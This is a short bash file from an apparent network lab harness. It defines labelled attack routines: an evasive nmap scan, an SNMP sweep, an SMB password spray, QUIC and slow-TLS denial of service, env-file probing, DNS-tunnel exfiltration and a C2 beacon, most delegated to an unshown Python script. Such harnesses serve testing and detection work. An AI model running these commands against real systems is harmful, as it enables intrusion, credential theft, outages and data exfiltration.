# Tools and kinds that came with the third network (../campus), here in the first. Sourced by attacks.sh.
# shellcheck shell=bash disable=SC2034

campus() { on "$1" python3 "$LAB_HOME/campus/attacks.py" "${@:2}"; }

tool source53_scan port-scan a1 $WEB; source53_scan() { on 30 nmap -n -Pn -sS -g 53 --data-length 24 --max-rate 40 --max-retries 0 -p 1-200 $WEB; }
tool braa_sweep host-sweep a2 $NET; braa_sweep() { on 30 braa -a 15 -r 1 -d 40000 public@10.20.0.1-10.20.0.254:.1.3.6.1.2.1.1.1.0; }
tool rpcclient_spray brute-force a3 $FILES; rpcclient_spray() { on 40 bash -c 'while read -r w; do rpcclient -U "$w%Winter2026" -c getusername 10.20.0.30; sleep 0.2; done <"$0"' "$(words 30)"; }
tool quic_flood dos-flood a2 $WEB; quic_flood() { campus 15 quic_flood $WEB 900 6; }
tool hello_hold slow-dos a1 $WEB; hello_hold() { campus 50 held $WEB 443 70 40 hello; }
tool probe_paths web-attack a3 $WEB; probe_paths() { campus 40 env_probe $WEB; }
tool steal_names dns-tunnel desk $RESOLVER; steal_names() { campus 70 dns_steal $RESOLVER 0.7 60; }
tool cookie_beacon c2-beacon desk $C2; cookie_beacon() { campus 130 cookies $C2 80 6 37 120; }
